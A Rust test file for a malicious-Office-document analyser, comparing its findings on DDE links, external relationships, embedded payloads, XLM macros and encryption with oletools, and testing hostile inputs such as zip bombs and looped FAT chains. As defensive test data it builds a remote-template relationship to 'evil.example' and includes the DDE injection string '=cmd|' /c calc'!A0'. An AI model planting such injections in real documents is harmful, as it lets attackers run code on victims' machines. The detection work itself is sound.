//! Office documents beside VBA, compared with oletools 0.60.2 over the document corpus
//! (`tests/fixtures/documents/reference/office.json`, from `scripts/document-reference-office.py`),
//! and hostile inputs that must come back in bounded time.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::io::{Cursor, Write};
use std::time::{Duration, Instant};

use fcas_documents::{DocLimits, Findings};
use fcas_report::{DocumentKind, Format};
use serde_json::Value;

/// Relationship types oleobj reports (its BLACKLISTED_RELATIONSHIP_TYPES); we report every
/// external one, so the comparison keeps these.
const OLEOBJ_TYPES: &[&str] = &[
    "attachedTemplate",
    "externalLink",
    "externalLinkPath",
    "externalReference",
    "frame",
    "hyperlink",
    "officeDocument",
    "oleObject",
    "package",
    "slideUpdateUrl",
    "slideMaster",
    "slide",
    "slideUpdateInfo",
    "subDocument",
    "worksheet",
];

/// The format the engine's identification gives these files, by their first bytes.
fn format_of(bytes: &[u8]) -> Format {
    if bytes.starts_with(&[0xD0, 0xCF, 0x11, 0xE0]) {
        Format::Ole
    } else if bytes.starts_with(b"PK") {
        Format::Zip
    } else if bytes.starts_with(b"{\\rt") {
        Format::Rtf
    } else if String::from_utf8_lossy(&bytes[..bytes.len().min(64)]).trim_start_matches('\u{feff}').trim_start().starts_with('<') {
        Format::Xml
    } else {
        Format::Text
    }
}

/// Ours, for the Office files of the corpus (those `kind_of` files as OLE or OOXML).
fn analyzed(corpus: &std::path::Path) -> BTreeMap<String, (Format, Findings)> {
    let mut found = BTreeMap::new();
    for path in common::files(corpus, "oletools") {
        let bytes = std::fs::read(corpus.join(&path)).unwrap();
        let format = format_of(&bytes);
        match fcas_documents::kind_of(format, &bytes) {
            Some(DocumentKind::Ole | DocumentKind::Ooxml) => {}
            _ => continue,
        }
        let started = Instant::now();
        let findings = fcas_documents::analyze(format, &bytes, &DocLimits::default()).unwrap();
        assert!(started.elapsed() < Duration::from_secs(20), "{path}: {:?}", started.elapsed());
        found.insert(path, (format, findings));
    }
    found
}

/// DDE text as both sides can spell it: NULs dropped, characters outside ASCII as `?`,
/// surrounding blanks trimmed.
fn normalized(link: &str) -> String {
    link.chars().filter(|c| *c != '\0').map(|c| if c.is_ascii() { c } else { '?' }).collect::<String>().trim().to_string()
}

fn strings(value: &Value) -> Vec<String> {
    value.as_array().map(|list| list.iter().filter_map(|item| item.as_str().map(str::to_string)).collect()).unwrap_or_default()
}

struct Score {
    what: &'static str,
    agree: usize,
    total: usize,
    disagreements: Vec<String>,
}

impl Score {
    fn new(what: &'static str) -> Self {
        Self { what, agree: 0, total: 0, disagreements: Vec::new() }
    }
    fn count(&mut self, agree: bool, detail: impl FnOnce() -> String) {
        self.total += 1;
        if agree {
            self.agree += 1;
        } else {
            self.disagreements.push(detail());
        }
    }
    fn percent(&self) -> f64 {
        if self.total == 0 {
            100.0
        } else {
            100.0 * self.agree as f64 / self.total as f64
        }
    }
    fn print(&self) {
        println!("{}: {}/{} ({:.1}%)", self.what, self.agree, self.total, self.percent());
        for line in &self.disagreements {
            println!("  differs: {line}");
        }
    }
}

#[test]
fn agrees_with_oletools() {
    let Some(corpus) = common::documents() else { return };
    let reference = common::reference("office.json");
    let files = reference["files"].as_object().unwrap();
    let ours = analyzed(&corpus);
    assert!(ours.len() >= 80, "only {} Office files recognised", ours.len());

    let mut dde = Score::new("files with the same DDE links");
    let mut relationships = Score::new("files with the same external relationships");
    let mut embedded = Score::new("embedded payloads found by sha256");
    let mut xlm = Score::new("OLE files with the same XLM verdict");
    let mut encrypted = Score::new("files with the same encryption verdict");
    let mut schemes = Score::new("encrypted files with the scheme msoffcrypto-tool names");
    for (path, (format, findings)) in &ours {
        let expected = &files[path.as_str()];
        let document = &findings.document;
        if !expected["dde"].is_null() {
            let theirs: BTreeSet<String> = strings(&expected["dde"]).iter().map(|link| normalized(link)).collect();
            let mine: BTreeSet<String> = document.dde.iter().map(|link| normalized(link)).collect();
            dde.count(theirs == mine, || format!("{path}: oletools {theirs:?}, ours {mine:?}"));
        }
        let theirs: BTreeSet<(String, String)> = expected["external_relationships"]
            .as_array()
            .unwrap()
            .iter()
            .map(|item| (item["type"].as_str().unwrap().to_string(), item["target"].as_str().unwrap().to_string()))
            .collect();
        let mine: BTreeSet<(String, String)> = document
            .external_relationships
            .iter()
            .filter(|relationship| OLEOBJ_TYPES.contains(&relationship.kind.as_str()))
            .map(|relationship| (relationship.kind.clone(), relationship.target.clone()))
            .collect();
        relationships.count(theirs == mine, || format!("{path}: oletools {theirs:?}, ours {mine:?}"));
        let mine: BTreeSet<&str> = document.embedded.iter().map(|object| object.sha256.as_str()).collect();
        for payload in expected["embedded"].as_array().unwrap() {
            let sha = payload["sha256"].as_str().unwrap();
            embedded.count(mine.contains(sha), || format!("{path}: payload {sha} not found (ours {mine:?})"));
        }
        // oletools 0.60.2 without XLMMacroDeobfuscator detects macro sheets in BIFF only.
        if *format == Format::Ole && expected["xlm"].is_boolean() && format_of(&std::fs::read(corpus.join(path)).unwrap()) == Format::Ole {
            let theirs = expected["xlm"].as_bool().unwrap();
            let mine = document.xlm.as_ref().is_some_and(|xlm| !xlm.sheets.is_empty());
            xlm.count(theirs == mine, || format!("{path}: oletools {theirs}, ours {mine}"));
        }
        if let Some(theirs) = expected["encrypted"].as_bool() {
            if let Some(scheme) = expected["encryption_scheme"].as_str() {
                let mine = document.encryption.as_deref().unwrap_or_default();
                schemes.count(scheme.replace('_', "-") == mine, || format!("{path}: msoffcrypto-tool {scheme}, ours {mine}"));
            }
            encrypted.count(theirs == document.encrypted, || {
                format!("{path}: oletools {theirs}, ours {} ({:?})", document.encrypted, document.encryption)
            });
        }
    }
    for score in [&dde, &relationships, &embedded, &xlm, &encrypted, &schemes] {
        score.print();
    }
    // What oletools finds in files that are not Office documents here (RTF, OpenDocument,
    // zipped samples) belongs to other parts; listed so the figures above are read right.
    for (path, expected) in files {
        let found = strings(&expected["dde"]).len() + expected["embedded"].as_array().map_or(0, Vec::len);
        if !ours.contains_key(path) && found > 0 {
            println!("not an Office document here: {path} ({found} DDE links and payloads in oletools)");
        }
    }
    for (path, (_, findings)) in &ours {
        for formula in findings.document.xlm.iter().flat_map(|xlm| &xlm.formulas) {
            println!("XLM {path}: {}!{} {}", formula.sheet, formula.cell, formula.formula);
        }
        for error in &findings.errors {
            println!("error {path}: {error}");
        }
        for cut in &findings.document.truncated {
            println!("cut {path}: {cut}");
        }
        if let Some(scheme) = &findings.document.encryption {
            println!("encrypted {path}: {scheme}");
        }
        if let (Some(xlm), DocumentKind::Ooxml) = (&findings.document.xlm, findings.document.kind) {
            println!(
                "XLM in OOXML (oletools 0.60.2 reads BIFF only): {path}: {} sheets, {} formulas",
                xlm.sheets.len(),
                xlm.formulas.len()
            );
        }
    }
    assert_eq!(dde.percent(), 100.0, "DDE links");
    assert_eq!(relationships.percent(), 100.0, "external relationships");
    assert!(embedded.percent() >= 95.0, "embedded payloads");
    assert_eq!(xlm.percent(), 100.0, "XLM macro sheets");
    assert_eq!(encrypted.percent(), 100.0, "encryption");
    assert_eq!(schemes.percent(), 100.0, "encryption schemes");
    assert!(dde.total >= 10 && embedded.total >= 25 && xlm.total >= 4 && encrypted.total >= 50 && schemes.total >= 10);
}

#[test]
fn indicators_follow_the_findings() {
    let Some(corpus) = common::documents() else { return };
    let ours = analyzed(&corpus);
    let ids = |path: &str| -> BTreeSet<String> { ours[path].1.indicators.iter().map(|indicator| indicator.id.clone()).collect() };
    assert!(ids("oletools/msodde/dde-test.docx").contains("document.dde"));
    assert!(ids("oletools/oleobj/external_link/sample_with_external_link_to_doc.docx").contains("document.remote_template"));
    assert!(ids("oletools/excel4-macros/excel4_sample_macro.xls").contains("document.xlm.macros"));
    assert!(ids("oletools/encrypted/encrypted.docx").contains("document.encrypted"));
    let lnk = &ours["oletools/oleobj/sample_with_lnk_file.doc"].1;
    assert!(lnk
        .indicators
        .iter()
        .any(|indicator| indicator.id == "document.embedded_object" && indicator.severity == fcas_report::Severity::High));
    // Formulas, DDE commands and targets are handed to the IOC extraction.
    assert!(ours["oletools/msodde/dde-test.docx"].1.decoded_text.iter().any(|text| text.contains("calc.exe")));
}

#[test]
fn biff_formulas_decode_as_the_xml_of_the_same_workbook_spells_them() {
    let Some(corpus) = common::documents() else { return };
    let ours = analyzed(&corpus);
    let formulas = |path: &str| -> Vec<(String, String)> {
        ours[path].1.document.xlm.as_ref().unwrap().formulas.iter().map(|formula| (formula.cell.clone(), formula.formula.clone())).collect()
    };
    let xml = formulas("oletools/excel4-macros/excel4_sample_macro.xlsm");
    assert_eq!(xml.len(), 2);
    assert_eq!(formulas("oletools/excel4-macros/excel4_sample_macro.xls"), xml);
    assert_eq!(formulas("oletools/excel4-macros/excel4_sample_macro.xlt"), xml);
}

#[test]
fn every_cut_of_every_office_file_comes_back() {
    let Some(corpus) = common::documents() else { return };
    let limits = DocLimits::default();
    let started = Instant::now();
    for path in common::files(&corpus, "oletools") {
        let bytes = std::fs::read(corpus.join(&path)).unwrap();
        let format = format_of(&bytes);
        if fcas_documents::kind_of(format, &bytes).is_none() {
            continue;
        }
        for cut in [bytes.len() / 3, bytes.len() / 2, bytes.len() - 1] {
            let _ = fcas_documents::analyze(format, &bytes[..cut], &limits);
        }
    }
    assert!(started.elapsed() < Duration::from_secs(120), "{:?}", started.elapsed());
}

fn ole_file(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, data) in streams {
        file.create_stream(path).unwrap().write_all(data).unwrap();
    }
    file.flush().unwrap();
    file.into_inner().into_inner()
}

#[test]
fn huge_biff_record_lengths_and_positions() {
    // BOF, a BOUNDSHEET of a macro sheet at a position far past the end, a record whose length
    // runs past the stream.
    let mut workbook = vec![0x09, 0x08, 4, 0, 0, 6, 5, 0];
    workbook.extend_from_slice(&[0x85, 0, 10, 0, 0xff, 0xff, 0xff, 0x7f, 2, 1, 1, 0, b'M']);
    workbook.extend_from_slice(&[0x06, 0, 0xff, 0xff, 1, 2, 3]);
    let bytes = ole_file(&[("/Workbook", &workbook)]);
    let findings = fcas_documents::analyze(Format::Ole, &bytes, &DocLimits::default()).unwrap();
    let xlm = findings.document.xlm.unwrap();
    assert_eq!(xlm.sheets[0].visibility, "very_hidden");
    assert!(xlm.formulas.is_empty());
    assert!(findings.indicators.iter().any(|indicator| indicator.id == "document.xlm.hidden_sheet"));
}

#[test]
fn fat_loops_come_back() {
    let bytes = ole_file(&[("/WordDocument", &[0x13; 9000]), ("/1Table", &[0; 5000])]);
    let first_fat = u32::from_le_bytes(bytes[0x4C..0x50].try_into().unwrap()) as usize;
    let mut looped = bytes.clone();
    let fat = (first_fat + 1) * 512;
    for index in 0..128 {
        let at = fat + index * 4;
        let next = u32::from_le_bytes(looped[at..at + 4].try_into().unwrap());
        if next < 0xFFFF_FFFA {
            looped[at..at + 4].copy_from_slice(&(index as u32).to_le_bytes());
        }
    }
    let started = Instant::now();
    let _ = fcas_documents::kind_of(Format::Ole, &looped);
    let findings = fcas_documents::analyze(Format::Ole, &looped, &DocLimits::default());
    assert!(started.elapsed() < Duration::from_secs(10));
    if let Some(findings) = findings {
        assert!(!findings.errors.is_empty() || findings.document.dde.is_empty());
    }
}

#[test]
fn zip_bombs_in_ooxml_stop_at_the_cap() {
    let mut archive = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let deflated = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    archive.start_file("[Content_Types].xml", deflated).unwrap();
    archive.write_all(b"<Types/>").unwrap();
    archive.start_file("word/document.xml", deflated).unwrap();
    archive.write_all(b"<w:document xmlns:w=\"w\"><w:body>").unwrap();
    let zeros = vec![b' '; 1 << 20];
    for _ in 0..16 {
        archive.write_all(&zeros).unwrap();
    }
    archive.start_file("word/_rels/settings.xml.rels", deflated).unwrap();
    archive.write_all(br#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#).unwrap();
    let bytes = archive.finish().unwrap().into_inner();
    assert!(bytes.len() < 1 << 20);
    let limits = DocLimits { max_decoded_stream: 1 << 20, ..DocLimits::default() };
    let started = Instant::now();
    let findings = fcas_documents::analyze(Format::Zip, &bytes, &limits).unwrap();
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(findings.document.truncated.iter().any(|cut| cut == "ooxml.parts"));
    assert_eq!(findings.document.external_relationships[0].kind, "attachedTemplate");
    assert!(findings.indicators.iter().any(|indicator| indicator.id == "document.remote_template"));
}

#[test]
fn msi_like_and_plain_files_are_not_office() {
    let bytes = ole_file(&[("/\u{4840}\u{3f3f}", b"table")]);
    assert_eq!(fcas_documents::kind_of(Format::Ole, &bytes), None);
    assert_eq!(fcas_documents::kind_of(Format::Text, b"a,b,c\n1,2,3\n"), None);
    assert_eq!(fcas_documents::kind_of(Format::Xml, b"<?xml version=\"1.0\"?><svg/>"), None);
    assert_eq!(fcas_documents::kind_of(Format::Text, b"=cmd|' /c calc'!A0\n"), Some(DocumentKind::Ole));
}
